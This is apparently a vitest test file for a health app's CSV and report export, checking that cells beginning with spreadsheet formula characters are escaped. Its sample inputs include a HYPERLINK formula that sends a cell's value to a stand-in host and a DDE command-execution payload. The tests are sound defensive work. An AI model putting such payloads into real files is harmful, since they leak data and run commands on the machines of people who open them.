import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { snapshotCsv, tableCsv } from './csv.ts'
import { buildReport } from './report.ts'
import { nov, rowsOf, snapshotOf } from './sample.ts'

/** What spreadsheets take for the beginning of a formula, full-width forms among it. */
const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const FORMULAS = ['SUM(A1:A9)', `HYPERLINK("https://evil.test/"&A1)`, "cmd|' /C calc'!A0", '2+3', '"x']

const cellsOf = (csv: string): string[] => Papa.parse<string[]>(csv, { newline: '\r\n', delimiter: ',' }).data.flat()

test('row 36, formulas in CSV cells: nothing is run where a semicolon, a tabulator or the end of a line parts cells', () => {
  for (const beginning of BEGINNINGS.filter((one) => one.trim() !== '')) {
    const texts = [';', '; ', '\t', ';"', ';" ', '\n', '\r\n', '\r "', '\u2028'].map(
      (parting) => `a${parting}${beginning}1+1`,
    )
    const rows = rowsOf(
      ['pain', nov(3), { nrs: 4, note: texts[0] ?? '', triggers: texts }],
      ['condition', nov(30), { name: texts[1] ?? '' }],
    )
    const lines = snapshotCsv(snapshotOf({ rows, purpose: texts[2] ?? '' })).split(/[\r\n\u2028]+/)
    const cells = lines.flatMap((line) => line.split(/[;\t]/))
    expect(cells.filter((cell) => cell.replace(/^[\s"]+/, '').startsWith(beginning))).toEqual([])
  }
})

test.each(BEGINNINGS.map((beginning) => [JSON.stringify(beginning), beginning]))(
  'row 36, formulas in CSV cells: nothing that begins with %s is run',
  (_name, beginning) => {
    for (const formula of FORMULAS) {
      const text = beginning + formula
      const rows = rowsOf(
        ['condition', nov(30), { name: text }],
        ['pain', nov(3), { nrs: 4, note: text, triggers: [text] }],
        ['check', nov(4), { aids: [text], note: ` ${text}` }],
        ['medication', nov(30), { name: text }],
      )
      const snapshot = snapshotOf({ rows, questions: [text], purpose: text, recipient: text, owner: text })
      const cells = [snapshotCsv(snapshot), ...buildReport(snapshot).tables.map(tableCsv)].flatMap(cellsOf)
      expect(cells.filter((cell) => cell.startsWith(beginning) && cell !== '-')).toEqual([])
      expect(cells).toContain(`'${text}`)
    }
  },
)
